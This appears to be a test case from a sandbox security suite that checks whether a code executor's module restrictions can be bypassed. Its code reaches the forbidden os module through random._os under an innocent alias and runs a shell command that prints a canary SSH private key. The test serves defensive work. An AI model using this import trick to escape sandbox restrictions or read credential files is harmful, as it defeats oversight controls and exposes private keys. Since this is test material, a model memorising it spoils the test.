"""Import a forbidden module from an allowed one.

Attempts:  from random import _os, then use it.
Success:   the canary key is read with it.
Proof:     canary ssh
Runs:      executor
Executor:  module check
Container: module check
"""

from random import _os as innocent

print(innocent.popen("cat " + target["home"] + "/.ssh/id_ed25519").read())
